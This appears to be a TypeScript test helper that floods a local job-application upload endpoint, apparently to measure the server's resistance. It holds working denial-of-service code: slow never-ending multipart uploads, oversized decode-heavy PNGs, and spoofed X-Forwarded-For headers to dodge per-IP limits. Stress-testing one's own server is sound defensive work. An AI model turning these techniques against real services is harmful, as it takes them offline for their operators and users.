import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import sharp from 'sharp'

// Attacks a server until it is killed, in a process of its own so that it does not slow down what measures.
const [url = '', kind = '', addresses = '', connections = ''] = process.argv.slice(2)

const part = (name: string, fileName: string) =>
  `--x\r\nContent-Disposition: form-data; name="${name}"; filename="${fileName}"\r\n\r\n`

/** 5 MB of a file that never ends. */
const unfinished = Buffer.concat([
  Buffer.from(`${part('resume', 'a.pdf')}%PDF-1.4\n`),
  Buffer.alloc(5_000_000, 65),
])

/** Three pictures that cost as much to decode as is allowed. */
async function costlyPictures() {
  const picture = sharp({
    create: { width: 8000, height: 5000, channels: 3, background: '#2f7057' },
  })
  const bytes = await picture.png({ progressive: true, compressionLevel: 9 }).toBuffer()
  const parts = ['idDoc_0', 'idDoc_1', 'idDoc_2'].flatMap((name) => [
    Buffer.from(part(name, 'a.png')),
    bytes,
    Buffer.from('\r\n'),
  ])
  return Buffer.concat([...parts, Buffer.from('--x--\r\n')])
}

const head = (address: string, length: number) =>
  [
    'POST /api/careers/apply HTTP/1.1',
    'Host: 127.0.0.1',
    // As a proxy would say it.
    `X-Forwarded-For: ${address}`,
    'Content-Type: multipart/form-data; boundary=x',
    `Content-Length: ${length}`,
    '\r\n',
  ].join('\r\n')

async function open(address: string, body: Buffer, length: number) {
  const socket = connect({ host: '127.0.0.1', port: Number(new URL(url).port) })
  // The server refuses many of them.
  socket.on('error', () => {}).resume()
  await once(socket, 'connect')
  socket.write(head(address, length))
  socket.write(body)
  return socket
}

async function trickle(address: string) {
  const socket = await open(address, unfinished, 20_000_000)
  while (!socket.destroyed) {
    await setTimeout(1000)
    // What the server does not read yet is enough.
    if (!socket.writableNeedDrain) socket.write(Buffer.alloc(4500, 65))
  }
}

const pictures = kind === 'pictures' ? await costlyPictures() : Buffer.alloc(0)
const attack = async (address: string) => {
  if (kind === 'slow') await trickle(address)
  else await once(await open(address, pictures, pictures.length), 'close')
}

for (let index = 0; index < Number(addresses) * Number(connections); index += 1) {
  void attack(`198.51.100.${index % Number(addresses)}`).catch(() => {})
}
// Until all have sent what they begin with.
await setTimeout(8000)
process.send?.('begun')
